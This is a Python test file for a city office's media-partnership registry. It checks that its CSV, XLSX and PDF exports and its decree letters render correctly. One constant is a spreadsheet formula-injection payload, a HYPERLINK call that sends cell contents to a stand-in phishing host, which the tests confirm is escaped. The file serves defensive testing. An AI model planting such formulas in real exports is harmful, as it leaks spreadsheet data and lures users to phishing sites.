"""The registry's letters and report files: the office's one letterhead and font, and exports that stay inert."""

import csv
import datetime as dt
import io
from types import SimpleNamespace

import openpyxl
from pypdf import PdfReader

from chassis.letters import Letterhead
from registry.documents import contract_summary, decree_attachment
from registry.report_files import as_csv, as_pdf, as_xlsx
from registry.settings import from_env

BRAND = '=HYPERLINK("http://phish.example/?q="&A1,"Klik untuk detail")'
SETTINGS = from_env(
    org_name="Dinas Komunikasi dan Informatika Kota Kotamobagu",
    office_region="Pemerintah Kota Kotamobagu",
    office_address="Jl. Adampe Dolot No. 1",
    office_city="Kotamobagu",
    decree_signer_name="Drs. Sofyan Mokoginta, M.Si.",
    decree_signer_nip="197511112003121002",
    decree_signer_position="Kepala Dinas Komunikasi dan Informatika",
)
LETTERHEAD = (
    "PEMERINTAH KOTA KOTAMOBAGU DINAS KOMUNIKASI DAN INFORMATIKA KOTA KOTAMOBAGU Jl. Adampe Dolot No. 1, Kotamobagu"
)
DECREE = SimpleNamespace(number="500/12/SK/2027", signed_on=dt.date(2027, 1, 4), signer="verifikator.satu")
PERIOD = SimpleNamespace(title="Kemitraan Media 2027 — Tahap I")
ROWS = [
    {
        "outlet": "Suara “Bolmong” — Daring",
        "legal_name": "PT Ñusa Média Łódź",
        "media_type": "siber",
        "journalists": [("Алёна Ελένη", "pemimpin redaksi", "utama"), ("Budi", "wartawan", None)],
    }
]


def text_of(pdf: bytes) -> str:
    reader = PdfReader(io.BytesIO(pdf))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


def report(outlet: str = BRAND) -> dict:
    row = {
        "contract": "KTR/2027/001",
        "outlet": outlet,
        "month": "2027-01",
        "accepted": 3,
        "billable": 3,
        "amount": -1500000,
        "paid": 0,
        "held": 0,
        "status": "open",
    }
    return {
        "period_id": 1,
        "period": "Kemitraan 2027",
        "rows": [row],
        "budget": 5,
        "committed": 4,
        "used": 3,
        "paid": 0,
    }


def test_payment_report_csv_neutralises_formula_brand():
    rows = list(csv.reader(io.StringIO(as_csv(report()).decode("utf-8-sig")), delimiter=";"))

    assert rows[1][1] == "'" + BRAND
    assert rows[1][5] == "-1500000"  # a negative amount stays a number, not text
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_payment_report_xlsx_neutralises_formula_brand():
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx(report())))["Pembayaran"]
    brand, amount = sheet.cell(4, 2), sheet.cell(4, 6)

    assert brand.value == "'" + BRAND and brand.data_type == "s"
    assert amount.value == -1500000 and amount.data_type == "n"


def test_decree_attachment_keeps_curly_quotes_dashes_and_non_latin_letters():
    text = text_of(decree_attachment(SETTINGS, DECREE, PERIOD, ROWS))

    assert "Kemitraan Media 2027 — Tahap I" in text
    assert "1. Suara “Bolmong” — Daring (PT Ñusa Média Łódź), siber" in text
    assert "Алёна Ελένη, pemimpin redaksi, UKW: utama" in text
    assert "?" not in text


def test_decree_attachment_is_signed_by_the_head_of_office_with_nip_not_a_login_name():
    text = text_of(decree_attachment(SETTINGS, DECREE, PERIOD, ROWS))

    assert (
        "Ditetapkan di Kotamobagu pada tanggal 4 Januari 2027 Kepala Dinas Komunikasi dan Informatika "
        "Drs. Sofyan Mokoginta, M.Si. NIP. 19751111 200312 1 002"
    ) in text
    assert "verifikator.satu" not in text


def test_registry_letters_share_the_offices_letterhead():
    contract = SimpleNamespace(
        number="KTR/2027/001",
        starts_on=dt.date(2027, 1, 1),
        ends_on=dt.date(2027, 12, 31),
        value=12000000,
        quota=24,
        rate=500000,
        status="active",
    )
    outlet = SimpleNamespace(name="Suara “Bolmong”", legal_name="PT Ñusa")
    letters = [
        decree_attachment(SETTINGS, DECREE, PERIOD, ROWS),
        contract_summary(SETTINGS, contract, outlet, PERIOD),
        as_pdf(report("“Bolmong” — Ñusa"), SETTINGS),
    ]

    assert [text_of(pdf)[: len(LETTERHEAD)] for pdf in letters] == [LETTERHEAD] * 3
    assert "“Bolmong” — Ñusa" in text_of(letters[2])


def test_letterhead_from_an_office_name_alone_still_prints_the_name():
    assert text_of(as_pdf(report(), "Diskominfo Kotamobagu")).startswith("DISKOMINFO KOTAMOBAGU")
    assert Letterhead.from_settings(SETTINGS).city == "Kotamobagu"
